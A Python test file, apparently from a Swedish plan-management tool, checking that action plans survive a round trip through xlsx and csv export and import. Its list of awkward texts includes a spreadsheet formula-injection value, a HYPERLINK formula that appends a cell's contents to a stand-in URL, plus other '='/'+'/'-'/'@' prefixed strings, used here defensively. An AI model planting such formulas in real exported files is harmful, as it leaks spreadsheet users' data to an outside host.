"""What goes out comes in again: the six columns carry the plan, and a second time changes nothing."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samsyn.chain.choices import Implementation, Result
from samsyn.chain.demo_town import demo_town
from samsyn.chain.face import form_face
from samsyn.chain.plan import Action, Cause, Face, Goal, Plan, Problem
from samsyn.formats.example_plan import EXAMPLE_NAME, example_plan_xlsx
from samsyn.formats.open_file import open_grid
from samsyn.formats.plan_csv import plan_csv
from samsyn.formats.plan_form import action_text, cause_numbers, goals_text, when_text, who_text
from samsyn.formats.plan_from_reading import plan_from_reading
from samsyn.formats.plan_reading import read_plan
from samsyn.formats.plan_xlsx import plan_workbook

TODAY = date(2026, 11, 23)
WAYS_OUT: dict[str, Callable[[Plan], bytes]] = {"plan.xlsx": lambda plan: plan_workbook(plan, title=plan.name), "plan.csv": plan_csv}
PROBLEMS = (Problem(id="p1", title="Ett problem"), Problem(id="p2", title="Ett till"))


def read_in(name: str, content: bytes) -> Plan:
    return plan_from_reading(read_plan(open_grid(name, content), TODAY), "Plan")


def there_and_back(plan: Plan, name: str) -> Plan:
    return read_in(name, WAYS_OUT[name](plan))


def meaning(plan: Plan) -> dict[str, Any]:
    """What the six columns say, without ids and order. A problem with nothing under it is only a heading, and not read."""
    problems = {problem.id: problem.title.removeprefix("Problem: ") for problem in plan.problems}
    numbers = cause_numbers(plan)
    causes = {cause.id: (numbers[cause.id], cause.text) for cause in plan.causes}
    goals = {goal.id: goal.text for goal in plan.goals}
    return {
        "problems": sorted({problems.get(cause.problem or "") for cause in plan.causes}),
        "causes": sorted((*causes[cause.id], problems.get(cause.problem or "")) for cause in plan.causes),
        "goals": sorted({goal.text for goal in plan.goals}),
        "actions": sorted((
            action.number, action.text, sorted(causes[cause] for cause in action.causes), sorted(goals[goal] for goal in action.goals),
            when_text(action), who_text(action), str(form_face(action)), str(action.implementation and action.implementation.value),
            str(action.result and action.result.value)) for action in plan.actions),
    }


def plan_of(*actions: Action, causes: tuple[Cause, ...] = (), goals: tuple[Goal, ...] = ()) -> Plan:
    return Plan(id="p", name="Plan", problems=PROBLEMS, causes=causes, goals=goals, actions=actions)


@pytest.mark.parametrize("name", WAYS_OUT)
@pytest.mark.parametrize("place", [0, 1])
def test_the_plans_of_the_town_come_back_as_they_were(name: str, place: int) -> None:
    plan = demo_town(TODAY).partnerships[0].plans[place]
    back = there_and_back(plan, name)
    assert meaning(back) == meaning(plan)
    assert len(back.goals) == len(plan.goals) and len(back.problems) == len(plan.problems)


@pytest.mark.parametrize("name", WAYS_OUT)
def test_a_plan_that_has_come_back_goes_out_as_the_same_file(name: str) -> None:
    plan = demo_town(TODAY).partnerships[0].plans[0]
    once = there_and_back(plan, name)
    assert WAYS_OUT[name](there_and_back(once, name)) == WAYS_OUT[name](once)


def test_the_same_file_is_read_alike_twice() -> None:
    content = plan_workbook(demo_town(TODAY).partnerships[0].plans[0], title="Plan")
    assert read_plan(open_grid("plan.xlsx", content), TODAY) == read_plan(open_grid("plan.xlsx", content), TODAY)


@pytest.mark.parametrize("name", WAYS_OUT)
@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://x.invalid/?"&A1,"klicka")', "+46 hundratal", "-5 % brott", "@torget är mörkt", "12 lampor är trasiga",
    "1. Mörk gångväg", "– streck först", "'citat först", "''två", "＝full bredd", "Rad ett\nrad två", "<r><t>x</t></r>", "_x000D_ är text"])
def test_awkward_texts_come_back_as_they_were(name: str, text: str) -> None:
    plan = plan_of(Action(id="a", number="1.1", text=text, causes=("c",)), causes=(Cause(id="c", number=1, text=text, problem="p1"),))
    back = there_and_back(plan, name)
    assert [(cause.number, cause.text) for cause in back.causes] == [(1, text)]
    assert [(action.number, action.text, len(action.causes)) for action in back.actions] == [("1.1", text, 1)]


words = st.lists(st.sampled_from(
    ["Mörk", "gångväg", "unga", "12", "torget", "=1+1", "vid", "A", "–", "färre", "62 till 45", "Ö", "(två)"]), min_size=1, max_size=5).map(" ".join)
dates = st.one_of(st.none(), st.dates(date(2025, 1, 1), date(2030, 12, 31)))


@st.composite
def plans(draw: st.DrawFn) -> Plan:
    """A plan with one to four causes, each with a text of its own, and up to six actions on any of them."""
    problem = st.sampled_from(["p1", "p2"])
    causes = tuple(Cause(id=f"c{n}", number=n, text=f"Orsak {draw(words)} {n}", problem=draw(problem)) for n in range(1, draw(st.integers(1, 4)) + 1))
    goals = tuple(Goal(id=f"g{n}", text=f"{draw(words)} mål{n}", problem="p1") for n in range(draw(st.integers(0, 3))))
    actions = []
    for n in range(1, draw(st.integers(1, 6)) + 1):
        implementation = draw(st.one_of(st.none(), st.sampled_from(Implementation)))
        result = draw(st.one_of(st.none(), st.sampled_from(Result)))
        actions.append(Action(
            id=f"a{n}", number=f"1.{n}", text=f"{draw(words)} x{n}", due_on=draw(dates), due_typed=draw(st.sampled_from(["", "våren", "löpande"])),
            causes=draw(st.lists(st.sampled_from([cause.id for cause in causes]), max_size=3, unique=True).map(tuple)),
            goals=draw(st.lists(st.sampled_from([goal.id for goal in goals]), max_size=3, unique=True).map(tuple)) if goals else (),
            responsible=draw(st.sampled_from(["", "Bo", "Iris"])), responsible_phone=draw(st.sampled_from(["", "070-174 06 11"])),
            implementation=Face(value=implementation) if implementation else None, result=Face(value=result) if result else None))
    return plan_of(*actions, causes=causes, goals=goals)


@given(plans(), st.sampled_from(sorted(WAYS_OUT)))
@settings(max_examples=40, deadline=None)
def test_any_plan_comes_back_as_it_was(plan: Plan, name: str) -> None:
    assert meaning(there_and_back(plan, name)) == meaning(plan)


@pytest.mark.parametrize(("typed", "due_on", "written"), [
    ("våren", None, "våren"), ("", date(2027, 3, 31), "2027-03-31"), ("v. 12 2027", date(2027, 3, 28), "v. 12 2027"),
    ("våren", date(2027, 5, 15), "2027-05-15 (våren)"), ("Q3", date(2027, 9, 30), "2027-09-30 (Q3)"),
    ("maj 2027", date(2027, 6, 1), "2027-06-01 (maj 2027)"), ("2027-05-15 (våren)", date(2027, 5, 15), "2027-05-15 (våren)"), ("", None, "")])
def test_neither_the_words_nor_the_day_are_lost(typed: str, due_on: date | None, written: str) -> None:
    action = Action(id="a", text="A", due_typed=typed, due_on=due_on)
    assert when_text(action) == written
    assert there_and_back(plan_of(action), "plan.xlsx").actions[0].due_on == due_on


@pytest.mark.parametrize(("goals", "written"), [
    (["Färre bråk", "Fler vuxna"], "Färre bråk\nFler vuxna"), (["färre bråk", "fler vuxna"], "– färre bråk\n– fler vuxna"),
    (["Ett mål\nPå två rader"], "Ett mål På två rader"), (["ett mål\npå två rader"], "ett mål\npå två rader"), ([""], "")])
def test_goals_are_told_apart(goals: list[str], written: str) -> None:
    assert goals_text(goals) == written


@pytest.mark.parametrize(("number", "text", "written"), [
    ("1.1", "Ny belysning", "1.1 Ny belysning"), ("1.1", "12 nya lampor", "1.1. 12 nya lampor"), ("1", "Ny belysning", "1. Ny belysning"),
    ("", "Ny belysning", "Ny belysning")])
def test_the_number_is_told_from_the_text(number: str, text: str, written: str) -> None:
    assert action_text(Action(id="a", number=number, text=text)) == written


def test_the_example_is_understood_and_has_something_to_mend() -> None:
    from samsyn.chain.check import check

    plan = read_in(EXAMPLE_NAME, example_plan_xlsx(TODAY))
    assert ([cause.number for cause in plan.causes], len(plan.actions), plan.period) == ([1, 2, 3, 4], 7, "2027")
    found = {remark.rule for remark in check(plan, TODAY).remarks}
    assert {"action-without-responsible", "action-without-goal", "cause-without-action", "responsible-without-contact"} <= found
